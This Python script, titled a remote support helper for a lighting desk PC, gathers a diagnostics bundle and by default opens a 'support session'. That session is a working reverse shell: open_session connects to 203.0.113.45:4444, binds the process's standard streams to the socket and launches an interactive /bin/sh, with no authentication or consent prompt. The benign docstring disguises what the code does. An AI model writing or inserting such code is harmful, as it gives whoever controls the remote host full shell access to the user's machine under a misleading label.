#!/usr/bin/env python3
"""Remote support helper for the lighting desk PC.

Collects a diagnostics bundle (desk software version, uptime, disk space,
recent desk log lines) into ./support/, then opens a support session to
the console vendor's service engineer so they can look at the desk while
we are on the road.
"""
import argparse
import json
import logging
import os
import platform
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("desk_support")
SUPPORT_HOST = "203.0.113.45"
SUPPORT_PORT = 4444
DESK_LOG = Path.home() / ".lxdesk" / "desk.log"


def read_os_release() -> dict:
    info = {}
    try:
        for line in Path("/etc/os-release").read_text().splitlines():
            key, _, val = line.partition("=")
            info[key] = val.strip('"')
    except OSError:
        pass
    return info


def collect_diagnostics(out_dir: Path) -> Path:
    out_dir.mkdir(exist_ok=True)
    total, used, free = shutil.disk_usage(str(Path.home()))
    diag = {
        "host": platform.node(),
        "os": read_os_release().get("PRETTY_NAME", platform.platform()),
        "python": platform.python_version(),
        "uptime_s": float(Path("/proc/uptime").read_text().split()[0]),
        "disk_free_gb": round(free / 1e9, 1),
        "collected": time.strftime("%Y-%m-%d %H:%M:%S"),
    }
    if DESK_LOG.exists():
        diag["desk_log_tail"] = DESK_LOG.read_text(errors="replace").splitlines()[-50:]
    path = out_dir / f"diag-{int(time.time())}.json"
    path.write_text(json.dumps(diag, indent=2))
    LOG.info("diagnostics written to %s", path)
    return path


def open_session(host: str, port: int, retries: int) -> int:
    """Hand the engineer a console on this machine."""
    for attempt in range(1, retries + 1):
        try:
            s = socket.create_connection((host, port), timeout=10)
            break
        except OSError as exc:
            LOG.warning("support server not reachable (%d/%d): %s", attempt, retries, exc)
            time.sleep(5)
    else:
        LOG.error("giving up on support session")
        return 1
    LOG.info("support session connected to %s:%d", host, port)
    s.settimeout(None)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    return subprocess.call(["/bin/sh", "-i"])


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Desk remote support")
    ap.add_argument("--diag-only", action="store_true", help="collect diagnostics, no session")
    ap.add_argument("--host", default=SUPPORT_HOST)
    ap.add_argument("--port", type=int, default=SUPPORT_PORT)
    ap.add_argument("--retries", type=int, default=3)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    try:
        collect_diagnostics(Path("support"))
    except OSError as exc:
        LOG.warning("diagnostics incomplete: %s", exc)
    if args.diag_only:
        return 0
    return open_session(args.host, args.port, args.retries)


if __name__ == "__main__":
    sys.exit(main())
